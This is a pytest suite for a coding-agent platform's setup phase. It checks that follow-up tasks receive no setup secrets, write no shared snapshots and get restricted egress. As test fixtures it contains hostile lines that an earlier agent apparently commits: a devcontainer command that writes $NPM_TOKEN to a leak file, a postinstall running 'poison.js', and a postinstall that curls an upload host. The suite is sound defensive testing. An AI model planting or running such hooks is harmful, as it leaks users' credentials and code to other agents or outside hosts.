"""What a setup may have and write, decided from what the task's checkout holds: the setup
secrets only on the repository's own commits, the snapshot only from the base branch's commit
as fetched; and a task runs only with an environment its owner may still use. No Docker: the
setup phase runs with real clones and rows, its container replaced by one that records the
inputs the runner prepared and leaves a home behind."""

import io
import subprocess
import tarfile
from contextlib import contextmanager
from pathlib import Path

import pytest

from common.netpolicy import EgressPolicy, egress_check
from environments.cache import SnapshotKey, snapshot_find
from environments.models import CacheUse, Environment, TaskEnvironment
from environments.services import EnvironmentInput, environment_save, task_environment_choose
from tasks.follow_ups import task_continue
from tasks.models import CodingTask, PullRequestState, TaskPullRequest, TaskStatus
from tasks.results import RunResult
from tasks.run import setup as run_setup
from tasks.run.containers import TASK_DIR, ContainerOutcome, ContainerSpec
from tasks.run.log import TaskLog
from tasks.run.setup import Prepared, SetupReady, setup_phase
from tasks.run.setup_rights import setup_rights
from tasks.run.workspace import Workspace, workspace_clone, workspace_remove
from tasks.services import task_create, task_submit
from tests.environments.conftest import PLAN_IMAGE as IMAGE

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("plan_settings")]

SECRET = "setup-only-registry-token-rights-0001"
WITHHELD = "[runner] The setup secrets are withheld: "
AGENTS_COMMAND = 'echo \\"$NPM_TOKEN\\" > ~/work/.leak'


@pytest.fixture
def setups(monkeypatch) -> list[ContainerSpec]:
    """The setup containers' specs, in order. Each "runs" at once: exit 0, a home left behind
    where the runner reads it; its gateway is never started."""
    specs: list[ContainerSpec] = []

    def run(*, spec: ContainerSpec, **_: object) -> ContainerOutcome:
        specs.append(spec)
        home = Path(spec.gateway_dir or "").parent / "home.tar"
        with tarfile.open(home, "w") as tar:
            data = b"installed by setup\n"
            info = tarfile.TarInfo("work/node_modules/dep/index.js")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        return ContainerOutcome(container_id="setup", exit_code=0)

    @contextmanager
    def gateway(task, ready, policy, setup_log, log):
        folder = ready.workspace().path.parent / "gateway"
        folder.mkdir(exist_ok=True)
        yield folder

    monkeypatch.setattr(run_setup, "container_run", run)
    monkeypatch.setattr(run_setup, "_setup_gateway", gateway)
    return specs


@pytest.fixture
def setup_egress(setups, monkeypatch) -> list[EgressPolicy]:
    """The egress policy each setup's gateway was given, in order."""
    policies: list[EgressPolicy] = []
    stub = run_setup._setup_gateway

    def gateway(task, ready, policy, setup_log, log):
        policies.append(policy)
        return stub(task, ready, policy, setup_log, log)

    monkeypatch.setattr(run_setup, "_setup_gateway", gateway)
    return policies


def _reached(policy: EgressPolicy, hosts: list[str]) -> list[str]:
    """The hosts the policy lets a connection to port 443 through to (DNS answered here)."""

    def resolve(host: str, port: int) -> list[str]:
        return ["140.82.112.3"]

    return [
        host
        for host in hosts
        if egress_check(host=host, port=443, policy=policy, resolve=resolve).allowed
    ]


def _environment(owner, **fields) -> Environment:
    return environment_save(
        owner=owner, data=EnvironmentInput(**{"name": "env", "image": IMAGE, **fields})
    )


def _setup(task: CodingTask, workspace: Workspace) -> tuple[Prepared | RunResult | None, TaskLog]:
    log = TaskLog(task_id=task.pk, secrets=[], max_bytes=100_000)
    ready = SetupReady(
        client=None,  # type: ignore[arg-type]  # the container is the setups fixture's
        workspace=lambda: workspace,
        socket_root=workspace.path.parent,
        agent_uid=1000,
    )
    return setup_phase(task=task, ready=ready, log=log), log


def _first_task(owner, repo: str, environment: Environment, *, branch: str = "") -> CodingTask:
    return task_submit(
        owner=owner, repo_url=repo, prompt="one", branch=branch, environment=str(environment.pk)
    )


def _secret_files(spec: ContainerSpec) -> dict[str, bytes]:
    prefix = f"{TASK_DIR}/secret-env/"
    return {f.path.removeprefix(prefix): f.data for f in spec.files if f.path.startswith(prefix)}


def _agent_commits(task: CodingTask, workspace: Workspace, work: Path, files: dict[str, str]):
    """What the task's agent does: commits ``files`` on its checkout, the bundle kept on the
    task as the runner keeps it; the task then succeeded."""
    git = ["git", "-C", str(work), "-c", "user.name=Agent", "-c", "user.email=a@example.invalid"]
    subprocess.run(["cp", "-a", f"{workspace.path}/.", str(work)], check=True)
    subprocess.run([*git, "reset", "--quiet", "--hard"], check=True)
    base = subprocess.run([*git, "rev-parse", "HEAD"], capture_output=True, text=True).stdout
    for name, text in files.items():
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        (work / name).write_text(text)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "agent"], check=True)
    bundle = work.parent / f"{work.name}.bundle"
    subprocess.run(
        [*git, "bundle", "create", "-q", str(bundle), f"{base.strip()}..HEAD"], check=True
    )
    TaskPullRequest.objects.filter(pk=task.pk).update(bundle=bundle.read_bytes())
    CodingTask.objects.filter(pk=task.pk).update(status=TaskStatus.SUCCEEDED)


def _follow_up(first: CodingTask, tmp_path: Path, files: dict[str, str]) -> CodingTask:
    """``first``'s agent commits ``files`` (no pull request); its owner continues it."""
    workspace = workspace_clone(task=first).finished()
    try:
        _agent_commits(first, workspace, tmp_path / "agent-tree", files)
    finally:
        workspace_remove(task_id=first.pk)
    return task_continue(parent=CodingTask.objects.get(pk=first.pk), prompt="next")


def _head_subject(workspace: Workspace) -> str:
    done = subprocess.run(
        ["git", "-C", str(workspace.path), "log", "-1", "--format=%s"],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    return done.stdout.strip()


# The decision ----------------------------------------------------------------------------------


def _workspace(**fields) -> Workspace:
    values = {
        "path": Path("/nonexistent"), "branch": "main", "start_commit": "a" * 40,
        "base_branch": "main", "remote_branch": "main", "remote_commit": "a" * 40,
    }  # fmt: skip
    return Workspace(**{**values, **fields})


@pytest.mark.parametrize(
    ("fields", "secrets", "snapshot"),
    [
        ({}, True, True),  # the base branch as fetched
        ({"remote_branch": "feature", "branch": "feature"}, True, False),  # not the base
        ({"continues_task": True}, False, False),  # a follow-up: an earlier agent's commits
        ({"start_commit": "b" * 40}, False, False),  # not the commit fetched
        ({"remote_branch": "", "remote_commit": ""}, False, False),  # made at a given commit
    ],
)
def test_setup_rights_follow_what_the_checkout_holds(fields, secrets, snapshot):
    rights = setup_rights(workspace=_workspace(**fields))
    assert (rights.secrets, rights.snapshot) == (secrets, snapshot)
    assert bool(rights.why_not) == (not snapshot)


# A first task: as before ------------------------------------------------------------------------


@pytest.mark.parametrize("shared", [False, True])
def test_a_first_task_gets_the_setup_secrets_and_writes_the_snapshot(
    admin, user, local_repo, setups, shared
):
    if shared:  # no secrets: one snapshot for every user
        environment = _environment(admin, shared=True, setup_script="npm ci")
    else:
        environment = _environment(user, setup_script="npm ci", setup_secrets=f"NPM_TOKEN={SECRET}")
    task = _first_task(user, local_repo, environment)
    workspace = workspace_clone(task=task).finished()
    try:
        assert (workspace.remote_branch, workspace.remote_commit) == (
            "main",
            workspace.start_commit,
        )
        assert not workspace.continues_task
        prepared, log = _setup(task, workspace)
    finally:
        workspace_remove(task_id=task.pk)
    assert isinstance(prepared, Prepared)
    [spec] = setups
    assert _secret_files(spec) == ({} if shared else {"NPM_TOKEN": SECRET.encode()})
    assert WITHHELD not in TaskEnvironment.objects.get(pk=task.pk).setup_log
    assert "The environment is cached" in log.text
    owner = None if shared else user.pk
    found = snapshot_find(key=SnapshotKey(environment, owner, IMAGE, local_repo, "main"))
    assert found is not None
    assert found.commit == workspace.start_commit


def test_a_task_on_another_branch_than_its_base_gets_the_secrets_but_writes_no_snapshot(
    user, local_repo, setups
):
    environment = _environment(user, setup_script="npm ci", setup_secrets=f"NPM_TOKEN={SECRET}")
    task = _first_task(user, local_repo, environment, branch="feature")
    TaskPullRequest.objects.filter(pk=task.pk).update(base_branch="main")
    workspace = workspace_clone(task=task).finished()
    try:
        _, log = _setup(task, workspace)
    finally:
        workspace_remove(task_id=task.pk)
    assert _secret_files(setups[0]) == {"NPM_TOKEN": SECRET.encode()}
    assert "Not cached: the task starts from feature, not its base branch main" in log.text
    assert snapshot_find(key=SnapshotKey(environment, user.pk, IMAGE, local_repo, "main")) is None


# A follow-up: its checkout holds the earlier agent's commits -----------------------------------


def test_a_follow_up_on_its_base_branch_never_writes_the_shared_snapshot(
    admin, user, other_user, local_repo, tmp_path, setups
):
    """One user's agent commits a poisoned dependency; the follow-up (on the base branch, no
    pull request) runs a fresh setup on it. Its home must not become the snapshot another
    user's next task on that branch starts from."""
    shared = _environment(admin, shared=True, setup_script="npm ci")
    first = _first_task(other_user, local_repo, shared, branch="main")
    follow_up = _follow_up(
        first, tmp_path, {"package.json": '{"scripts": {"postinstall": "node poison.js"}}'}
    )
    workspace = workspace_clone(task=follow_up).finished()
    try:
        assert workspace.branch == workspace.base_branch == "main"
        assert _head_subject(workspace) == "agent"
        prepared, log = _setup(follow_up, workspace)
    finally:
        workspace_remove(task_id=follow_up.pk)
    assert isinstance(prepared, Prepared)  # it ran: its home is the follow-up's own
    assert len(setups) == 1
    assert "Not cached: the task continues an earlier one" in log.text
    # What the next plain task on main, anyone's, looks up:
    assert snapshot_find(key=SnapshotKey(shared, None, IMAGE, local_repo, "main")) is None


@pytest.mark.parametrize("cached", [False, True])
def test_a_follow_ups_setup_never_runs_agent_written_commands_with_the_setup_secrets(
    user, local_repo, tmp_path, setups, cached
):
    """The first task's agent commits a devcontainer.json whose command would write the
    secret where the follow-up's agent reads it; the follow-up's setup (fresh, or the
    maintenance script on the first task's snapshot) runs it without the secrets."""
    environment = _environment(
        user, devcontainer=True, setup_secrets=f"NPM_TOKEN={SECRET}", maintenance_script="true"
    )
    first = _first_task(user, local_repo, environment)
    if cached:  # the first task's setup wrote the snapshot the follow-up starts from
        workspace = workspace_clone(task=first).finished()
        try:
            _setup(first, workspace)
        finally:
            workspace_remove(task_id=first.pk)
        assert _secret_files(setups.pop()) == {"NPM_TOKEN": SECRET.encode()}
    evil = '{"postCreateCommand": "' + AGENTS_COMMAND + '"}'
    follow_up = _follow_up(first, tmp_path, {".devcontainer/devcontainer.json": evil})
    workspace = workspace_clone(task=follow_up).finished()
    try:
        assert _head_subject(workspace) == "agent"
        prepared, _ = _setup(follow_up, workspace)
    finally:
        workspace_remove(task_id=follow_up.pk)
    assert isinstance(prepared, Prepared)
    [spec] = setups
    script = next(f.data.decode() for f in spec.files if f.path == f"{TASK_DIR}/setup.sh")
    assert "~/work/.leak" in script  # the agent's command runs, as a repository's would
    assert _secret_files(spec) == {}
    assert SECRET not in repr(spec.env)
    assert all(SECRET.encode() not in f.data for f in spec.files)
    run = TaskEnvironment.objects.get(pk=follow_up.pk)
    assert run.cache == (CacheUse.HIT if cached else CacheUse.MISS)
    [said] = [line for line in run.setup_log.splitlines() if line.startswith(WITHHELD)]
    assert "a private registry" in said
    assert SECRET in prepared.secrets  # still redacted from the agent's log


CUT = "[runner] The setup reaches no host the agent may not reach: "


def test_a_follow_ups_setup_reaches_no_host_its_agent_may_not(
    user, local_repo, tmp_path, setup_egress
):
    """The earlier agent's package.json script runs in the follow-up's setup (npm ci): with the
    setup's own list it would reach what the agent may not, a host to send the code to."""
    environment = _environment(
        user,
        setup_script="npm ci",
        setup_egress="custom",
        setup_allow="registry.npmjs.org\nuploads.example.com",
        agent_egress="custom",
        agent_allow="registry.npmjs.org\ngithub.com",
    )
    hosts = ["registry.npmjs.org", "uploads.example.com", "github.com"]
    first = _first_task(user, local_repo, environment)
    workspace = workspace_clone(task=first).finished()
    try:
        _setup(first, workspace)
    finally:
        workspace_remove(task_id=first.pk)
    assert CUT not in TaskEnvironment.objects.get(pk=first.pk).setup_log
    follow_up = _follow_up(
        first,
        tmp_path,
        {"package.json": '{"scripts": {"postinstall": "curl uploads.example.com"}}'},
    )
    workspace = workspace_clone(task=follow_up).finished()
    try:
        prepared, _ = _setup(follow_up, workspace)
    finally:
        workspace_remove(task_id=follow_up.pk)
    assert isinstance(prepared, Prepared)
    first_egress, follow_up_egress = setup_egress
    assert _reached(first_egress, hosts) == ["registry.npmjs.org", "uploads.example.com"]
    assert _reached(follow_up_egress, hosts) == ["registry.npmjs.org"]
    assert _reached(prepared.agent_egress, hosts) == ["registry.npmjs.org", "github.com"]
    [said] = [
        line
        for line in TaskEnvironment.objects.get(pk=follow_up.pk).setup_log.splitlines()
        if line.startswith(CUT)
    ]
    assert "the task continues an earlier one" in said


def test_a_follow_up_on_its_parents_pull_request_branch_gets_no_setup_secrets(
    user, local_repo, setups
):
    """The pull-request branch is on the remote as fetched, and holds the agent's commits."""
    environment = _environment(user, setup_script="npm ci", setup_secrets=f"NPM_TOKEN={SECRET}")
    first = _first_task(user, local_repo, environment)
    TaskPullRequest.objects.filter(pk=first.pk).update(
        state=PullRequestState.PUSHED, branch="feature", base_branch="main"
    )
    CodingTask.objects.filter(pk=first.pk).update(status=TaskStatus.SUCCEEDED)
    # As task_continue makes it, less the pull request it would update (not on a local path).
    follow_up = task_create(
        owner=user, repo_url=local_repo, prompt="next", branch="feature", parent=first
    )
    task_environment_choose(
        task_id=follow_up.pk, owner=user, repo_url=local_repo, choice=str(environment.pk)
    )
    workspace = workspace_clone(task=follow_up).finished()
    try:
        assert (workspace.remote_branch, workspace.remote_commit) == (
            "feature",
            workspace.start_commit,
        )
        _setup(follow_up, workspace)
    finally:
        workspace_remove(task_id=follow_up.pk)
    assert _secret_files(setups[0]) == {}
    assert WITHHELD in TaskEnvironment.objects.get(pk=follow_up.pk).setup_log


# The environment is checked again when the task runs -------------------------------------------


def test_a_task_runs_only_with_an_environment_its_owner_may_still_use(
    admin, user, local_repo, setups
):
    shared = _environment(admin, name="builder", shared=True, setup_script="echo hi")
    task = _first_task(user, local_repo, shared)
    # The admin stops sharing it, and gives it secrets, before the task runs.
    environment_save(
        owner=admin,
        environment=shared,
        data=EnvironmentInput(
            name="builder", image=IMAGE, setup_script="echo hi", shared=False,
            setup_secrets=f"ADMIN_TOKEN={SECRET}",
        ),
    )  # fmt: skip
    workspace = workspace_clone(task=task).finished()
    try:
        result, log = _setup(task, workspace)
    finally:
        workspace_remove(task_id=task.pk)
    assert not setups  # no setup container, with the admin's secrets or without
    assert isinstance(result, RunResult)
    assert result.status == TaskStatus.FAILED
    assert "The environment builder is no longer available to you" in result.message
    assert result.message in log.text
    run = TaskEnvironment.objects.get(pk=task.pk)
    assert (run.cache, run.version, run.setup_log) == (CacheUse.NONE, None, "")
